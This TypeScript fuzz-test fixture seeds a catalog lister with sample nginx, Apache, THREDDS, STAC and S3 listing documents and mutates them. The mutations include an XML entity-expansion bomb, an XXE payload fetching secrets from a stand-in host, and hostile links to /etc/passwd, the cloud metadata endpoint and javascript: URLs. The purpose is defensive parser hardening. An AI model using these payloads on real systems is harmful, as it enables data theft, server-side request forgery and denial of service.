/**
 * Seeds and damage for the listing fuzzer (listing-fuzz.test.ts): the documents a place is listed from — index
 * pages (nginx, Apache, python http.server), a THREDDS catalog, STAC documents, an S3 ListObjectsV2 page — written
 * here as those servers write them, and the ways they are damaged or made hostile (entity bombs, external entities,
 * deep nesting, huge counts, links to other hosts, cycles, non-UTF-8, truncation).
 */
import type { Rng } from '../../src/testing/seeded-rng';

/** Where the fuzzed documents are served; every other host is one no request may go to. */
export const ORIGIN = 'http://cat.test';
export const EVIL = 'evil.test';

export interface Seed {
  readonly name: string;
  /** The URL the lister resolves. */
  readonly url: string;
  /** The URL the document is served at (S3: any ListObjectsV2 request). */
  readonly served: string | 's3';
  readonly body: string;
  readonly contentType: string;
}

const catalogXml = `<?xml version="1.0" encoding="UTF-8"?>
<catalog xmlns="http://www.unidata.ucar.edu/namespaces/thredds/InvCatalog/v1.0" xmlns:xlink="http://www.w3.org/1999/xlink" name="Test" version="1.0.1">
  <service name="all" serviceType="Compound" base="">
    <service name="odap" serviceType="OPENDAP" base="/thredds/dodsC/"/>
    <service name="http" serviceType="HTTPServer" base="/thredds/fileServer/"/>
  </service>
  <dataset name="Model" ID="model">
    <metadata inherited="true"><serviceName>all</serviceName></metadata>
    <catalogRef xlink:href="sub/catalog.xml" xlink:title="sub" name=""/>
    <catalogRef xlink:href="catalog.xml" xlink:title="self" name=""/>
    <dataset name="a.nc" ID="model/a.nc" urlPath="model/a.nc"><dataSize units="Mbytes">1.5</dataSize><date type="modified">2024-01-02T03:04:05Z</date></dataset>
    <dataset name="b.nc" ID="model/b.nc" urlPath="model/b.nc"/>
    <dataset name="inner"><dataset name="c.nc" urlPath="model/c.nc" serviceName="odap"/></dataset>
  </dataset>
</catalog>`;

const nginx = `<html><head><title>Index of /d/</title></head><body><h1>Index of /d/</h1><hr><pre><a href="../">../</a>
<a href="2024/">2024/</a>                                              21-Mar-2024 10:00                   -
<a href="s.zarr/">s.zarr/</a>                                            21-Mar-2024 10:00                   -
<a href="a%20b.nc">a b.nc</a>                                           21-Mar-2024 10:01              123456
<a href="c.h5">c.h5</a>                                                21-Mar-2024 10:02                  17
</pre><hr></body></html>`;

const apache = `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN"><html><head><title>Index of /d</title></head><body>
<table><tr><th><a href="?C=N;O=D">Name</a></th><th><a href="?C=M;O=A">Last modified</a></th></tr>
<tr><td><a href="/">Parent Directory</a></td></tr>
<tr><td valign="top"><img src="/icons/unknown.gif" alt="[   ]"></td><td><a href="x.nc">x.nc</a></td><td align="right">2023-01-02 03:04  </td><td align="right">1.5K</td></tr>
<tr><td><a href="y/">y/</a></td><td align="right">2023-01-02 03:04  </td><td align="right"> - </td></tr>
</table></body></html>`;

const python = `<!DOCTYPE HTML><html lang="en"><head><meta charset="utf-8"><title>Directory listing for /d/</title></head>
<body><h1>Directory listing for /d/</h1><hr><ul><li><a href="s.zarr/">s.zarr/</a></li><li><a href="f.nc">f.nc</a></li></ul><hr></body></html>`;

const stacCollection = JSON.stringify({
  type: 'Collection',
  stac_version: '1.0.0',
  id: 'c',
  title: 'Collection',
  links: [
    { rel: 'self', href: `${ORIGIN}/stac/collection.json` },
    { rel: 'child', href: './sub/catalog.json', title: 'sub' },
    { rel: 'item', href: './items/i1.json' },
    { rel: 'parent', href: '../catalog.json' },
  ],
  assets: {
    zarr: { href: './data.zarr', type: 'application/vnd+zarr', roles: ['data'], 'file:size': 10 },
    nc: { href: './data.nc', type: 'application/netcdf', roles: ['data'] },
  },
});

const stacItems = JSON.stringify({
  type: 'FeatureCollection',
  features: [
    {
      type: 'Feature',
      id: 'i1',
      properties: { datetime: '2024-01-01T00:00:00Z' },
      links: [{ rel: 'self', href: 'i1.json' }],
    },
    { type: 'Feature', id: 'i2', properties: {}, links: [] },
  ],
  links: [{ rel: 'next', href: '/stac/items?page=2' }],
});

const s3Page = `<?xml version="1.0" encoding="UTF-8"?>
<ListBucketResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Name>bucket</Name><Prefix>p/</Prefix><KeyCount>3</KeyCount><MaxKeys>1000</MaxKeys><Delimiter>/</Delimiter><IsTruncated>true</IsTruncated>
<Contents><Key>p/a.nc</Key><LastModified>2024-01-02T03:04:05.000Z</LastModified><ETag>"x"</ETag><Size>123</Size><StorageClass>STANDARD</StorageClass></Contents>
<CommonPrefixes><Prefix>p/s.zarr/</Prefix></CommonPrefixes><CommonPrefixes><Prefix>p/2024/</Prefix></CommonPrefixes>
<NextContinuationToken>TOKEN1</NextContinuationToken></ListBucketResult>`;

export const SEEDS: readonly Seed[] = [
  { name: 'nginx', url: `${ORIGIN}/d/`, served: `${ORIGIN}/d/`, body: nginx, contentType: 'text/html' },
  { name: 'apache', url: `${ORIGIN}/d/`, served: `${ORIGIN}/d/`, body: apache, contentType: 'text/html' },
  { name: 'python', url: `${ORIGIN}/d/`, served: `${ORIGIN}/d/`, body: python, contentType: 'text/html' },
  {
    name: 'thredds',
    url: `${ORIGIN}/thredds/catalog.html`,
    served: `${ORIGIN}/thredds/catalog.xml`,
    body: catalogXml,
    contentType: 'application/xml',
  },
  {
    name: 'stac-collection',
    url: `${ORIGIN}/stac/collection.json`,
    served: `${ORIGIN}/stac/collection.json`,
    body: stacCollection,
    contentType: 'application/json',
  },
  {
    name: 'stac-items',
    url: `${ORIGIN}/stac/items`,
    served: `${ORIGIN}/stac/items`,
    body: stacItems,
    contentType: 'application/geo+json',
  },
  { name: 's3', url: 's3://bucket/p/', served: 's3', body: s3Page, contentType: 'application/xml' },
];

const int = (rng: Rng, n: number) => Math.floor(rng() * n);
const pick = <T>(rng: Rng, xs: readonly T[]): T => xs[int(rng, xs.length)]!;
const at = (rng: Rng, s: string) => int(rng, s.length + 1);
const insert = (s: string, i: number, t: string) => s.slice(0, i) + t + s.slice(i);

const LOL = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`,
).join('')}]>`;
const XXE = `<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://${EVIL}/secret"><!ENTITY % p SYSTEM "http://${EVIL}/dtd"> %p;]>`;
const HOSTILE_HREFS = [
  `http://${EVIL}/x/catalog.xml`,
  `//${EVIL}/y.json`,
  `https://${EVIL}:443/z.nc`,
  's3://evil-bucket/k.nc',
  'file:///etc/passwd',
  'javascript:alert(1)',
  `http://user:pw@${EVIL}/`,
  'http://169.254.169.254/latest/meta-data/',
  '\u0000\u202e../../../etc',
];

/** A damaged body (string, or bytes for encodings) and the content type it is served with. */
export interface Damaged {
  readonly body: string | Uint8Array;
  readonly contentType: string;
}

/** Each takes the seed's text and returns the damaged document. */
export const MUTATIONS: Record<string, (rng: Rng, s: Seed) => Damaged> = {
  'random-chars': (rng, s) => {
    const chars = [...s.body];
    for (let k = 1 + int(rng, 12); k > 0; k--)
      chars[int(rng, chars.length)] = pick(rng, [...'<>&"\'/=;[]!?-#%\u0000\ud800é']);
    return { body: chars.join(''), contentType: s.contentType };
  },
  truncated: (rng, s) => ({ body: s.body.slice(0, int(rng, s.body.length)), contentType: s.contentType }),
  'non-utf8': (rng, s) => {
    const bytes = new TextEncoder().encode(s.body);
    if (rng() < 0.3) {
      // UTF-16LE with a BOM, as Windows tools write.
      const u16 = new Uint8Array(2 + s.body.length * 2);
      u16.set([0xff, 0xfe]);
      for (let i = 0; i < s.body.length; i++) new DataView(u16.buffer).setUint16(2 + 2 * i, s.body.charCodeAt(i), true);
      return { body: u16, contentType: s.contentType };
    }
    const c = bytes.slice();
    for (let k = 1 + int(rng, 16); k > 0; k--) c[int(rng, c.length)] = pick(rng, [0xff, 0xfe, 0xc3, 0xe2, 0x80, 0xf4]);
    return { body: c, contentType: `${s.contentType}; charset=iso-8859-1` };
  },
  'wrong-content-type': (rng, s) => ({
    body: rng() < 0.5 ? s.body : pick(rng, SEEDS).body,
    contentType: pick(rng, ['image/png', 'application/octet-stream', 'text/html', 'application/json', '', 'x/;;;']),
  }),
  'entity-bomb': (rng, s) => {
    const ref = pick(rng, ['&lol9;', '&lol5;&lol9;', '&xxe;', '&#x10FFFF;', '&#0;', '&#99999999;']);
    let body = s.body.replace(/(<\?xml[^>]*\?>)?/, `$1${LOL}`);
    body = body.replace(/name="([^"]*)"/g, (m, v: string) => (rng() < 0.5 ? `name="${v}${ref}"` : m));
    body = body.replace(/>([^<]{1,40})</g, (m, v: string) => (rng() < 0.3 ? `>${v}${ref}<` : m));
    return { body, contentType: s.contentType };
  },
  'external-entity': (rng, s) => {
    let body = s.body.replace(/(<\?xml[^>]*\?>)?/, `$1${XXE}`);
    body = body.replace(/(name|href|Key)(="|>)/, `$1$2&xxe;`);
    if (rng() < 0.5) body = insert(body, at(rng, body), '&xxe;');
    return { body, contentType: s.contentType };
  },
  'deep-nesting': (rng, s) => {
    const n = pick(rng, [60, 1_000, 20_000, 200_000]);
    const json = s.body.trimStart().startsWith('{');
    const [open, close] = json
      ? pick(rng, [
          ['[', ']'],
          ['{"a":', '}'],
          ['{"links":[', ']}'],
        ])
      : pick(rng, [
          ['<dataset name="d">', '</dataset>'],
          ['<div>', '</div>'],
          ['<CommonPrefixes>', '</CommonPrefixes>'],
        ]);
    const deep = open.repeat(n) + (rng() < 0.5 ? close.repeat(n) : close.repeat(int(rng, n)));
    if (json) return { body: s.body.replace(/"links":\[/, `"links":[${deep},`), contentType: s.contentType };
    const i = s.body.lastIndexOf('</');
    return { body: insert(s.body, i < 0 ? s.body.length : i, deep), contentType: s.contentType };
  },
  'many-entries': (rng, s) => {
    const n = pick(rng, [1_001, 5_000, 50_000]);
    const row: Record<string, (i: number) => string> = {
      html: (i) => `<a href="f${i}.nc">f${i}.nc</a> 01-Jan-2024 00:00 ${i}\n`,
      xml: (i) => `<dataset name="d${i}" urlPath="d/${i}.nc"/>`,
      s3: (i) => `<Contents><Key>p/k${i}</Key><Size>${i}</Size></Contents>`,
      json: (i) => `{"rel":"item","href":"i/${i}.json"},`,
    };
    const kind =
      s.served === 's3' ? 's3' : s.body.trimStart().startsWith('{') ? 'json' : s.name === 'thredds' ? 'xml' : 'html';
    const rows = Array.from({ length: n }, (_, i) => row[kind]!(i)).join('');
    if (kind === 'json') return { body: s.body.replace(/"links":\[/, `"links":[${rows}`), contentType: s.contentType };
    const i = kind === 'xml' ? s.body.indexOf('</dataset>') : s.body.lastIndexOf('</');
    return { body: insert(s.body, i < 0 ? s.body.length : i, rows), contentType: s.contentType };
  },
  'huge-value': (rng, s) => {
    const big = pick(rng, ['x', '"', '<', '&amp;', '/', ' ']).repeat(pick(rng, [70_000, 1_000_000, 4_000_000]));
    return {
      body: insert(s.body, at(rng, s.body), rng() < 0.5 ? big : `<a href="${big}">`),
      contentType: s.contentType,
    };
  },
  'other-host-links': (rng, s) => {
    const body = s.body.replace(/(href="|href":"|<Key>p\/|urlPath="|base=")([^"<]*)/g, (m, k: string) =>
      rng() < 0.6 ? `${k}${pick(rng, HOSTILE_HREFS)}` : m,
    );
    return { body, contentType: s.contentType };
  },
  'self-cycle': (_rng, s) => {
    const self = s.served === 's3' ? s.url : s.served;
    const body = s.body.replace(/(href="|href":")([^"]*)/g, `$1${self}`);
    return { body, contentType: s.contentType };
  },
  splice: (rng, s) => {
    const other = pick(rng, SEEDS).body;
    const a = at(rng, s.body);
    const b = at(rng, other);
    return { body: s.body.slice(0, a) + other.slice(b), contentType: s.contentType };
  },
};
